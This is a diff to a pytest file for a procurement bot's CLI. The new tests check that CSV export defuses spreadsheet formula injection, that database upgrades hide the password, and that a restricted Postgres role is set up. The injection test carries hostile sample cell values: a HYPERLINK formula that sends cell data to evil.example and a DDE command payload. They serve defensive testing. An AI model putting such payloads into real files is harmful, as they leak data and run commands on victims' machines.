@@ -5,9 +5,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+import uuid
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
+from sqlalchemy import create_engine, text
+from sqlalchemy.engine import make_url
 from typer.testing import CliRunner
 
 from bot.cli import app
@@ -16,7 +20,17 @@ from bot.services import Procurement
 from storage.engine import make_engine
 from storage.migrate import upgrade
 from storage.repository import SqlUnitOfWorkFactory
-from tests.fakes import EXAMPLE_POLICY, IT, REQUESTER, SECURITY, clock, draft, example_policy
+from tests.dbs import postgres_database
+from tests.fakes import (
+    EXAMPLE_POLICY,
+    IT,
+    PROCUREMENT,
+    REQUESTER,
+    SECURITY,
+    clock,
+    draft,
+    example_policy,
+)
 
 runner = CliRunner()
 
@@ -83,6 +97,90 @@ def test_export_writes_csv(filled: str) -> None:
     assert [r["number"] for r in rows] == ["PR-1001", "PR-1002"]
     assert rows[0]["steps"] == "IT review=approved; Security review=rejected; Procurement=closed"
     assert runner.invoke(app, ["export", "--since", "yesterday"]).exit_code == 1
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Quote")',
+    "vendor": "+cmd|' /C calc'!A0",
+    "cost_centre": "@SUM(1+1)",
+}
+
+
+@pytest.mark.parametrize("lead", ["", "\t", "\r"])
+def test_export_neutralises_formula_cells(filled: str, lead: str) -> None:
+    service = Procurement(
+        uow=SqlUnitOfWorkFactory(make_engine(filled)), policy=example_policy(), clock=clock()
+    )
+    hostile = {name: lead + text for name, text in FORMULAS.items()}
+    request = service.submit(
+        requester=IT[0],
+        draft=draft(**hostile, unit_price=Decimal("45.00"), quantity=1),
+        channel=Channel.SLACK,
+    )
+    for approver in (IT[1], SECURITY, PROCUREMENT):
+        service.approve(request_id=request.id, actor=approver, channel=Channel.SLACK)
+    service.record_po(
+        request_id=request.id, actor=PROCUREMENT, po_number="-2+3", channel=Channel.SLACK
+    )
+    result = runner.invoke(app, ["export"])
+    assert result.exit_code == 0, result.output
+    row = next(r for r in csv.DictReader(io.StringIO(result.output)) if r["number"] == "PR-1003")
+    # Each text cell reads as text in a spreadsheet, and still says what was typed.
+    assert {name: row[name] for name in [*hostile, "po_number"]} == {
+        **{name: f"'{text}" for name, text in hostile.items()},
+        "po_number": "'-2+3",
+    }
+    # Our own numbers stay numbers.
+    assert (row["unit_price"], row["quantity"], row["annual_amount_base"]) == (
+        "45.00",
+        "1",
+        "540.00",
+    )
+
+
+@pytest.mark.postgres
+@pytest.mark.parametrize("where", ["user part", "query string"])
+def test_db_upgrade_never_prints_the_password(monkeypatch: pytest.MonkeyPatch, where: str) -> None:
+    secret = "s3cret-pw"  # trust auth on the test server accepts any password
+    with postgres_database() as url:
+        parsed = make_url(url)
+        if where == "user part":
+            parsed = parsed.set(password=secret)
+        else:
+            parsed = parsed.update_query_dict({"password": secret})
+        monkeypatch.setenv("DATABASE_URL", parsed.render_as_string(hide_password=False))
+        result = runner.invoke(app, ["db", "upgrade"])
+    assert result.exit_code == 0, result.output
+    assert "Database is up to date (postgresql+psycopg://postgres" in result.output
+    assert secret not in result.output
+
+
+@pytest.mark.postgres
+def test_db_upgrade_grants_the_bot_s_role(monkeypatch: pytest.MonkeyPatch) -> None:
+    role = f"pb_cli_{uuid.uuid4().hex[:8]}"
+    with postgres_database() as url:
+        monkeypatch.setenv("DATABASE_URL", url)
+        try:
+            first = runner.invoke(app, ["db", "upgrade", "--app-role", role])
+            again = runner.invoke(app, ["db", "upgrade", "--app-role", role])
+            owner = runner.invoke(app, ["db", "upgrade", "--app-role", "postgres"])
+        finally:
+            engine = create_engine(url)
+            with engine.begin() as conn:
+                conn.execute(text(f'DROP OWNED BY "{role}"'))
+                conn.execute(text(f'DROP ROLE "{role}"'))
+            engine.dispose()
+    assert first.exit_code == 0, first.output
+    assert f"Created the role {role}; give it a password" in first.output
+    assert f"{role} may read and write the working tables and only append" in first.output
+    assert again.exit_code == 0 and "Created" not in again.output
+    assert owner.exit_code == 1
+    assert "postgres is a superuser, which may disable triggers" in owner.output
+
+
+def test_db_upgrade_app_role_needs_postgresql(filled: str) -> None:
+    result = runner.invoke(app, ["db", "upgrade", "--app-role", "procurebot_app"])
+    assert result.exit_code == 1 and "--app-role is for PostgreSQL" in result.output
 
 
 def test_policy_check_ok_and_errors(tmp_path: Path) -> None:
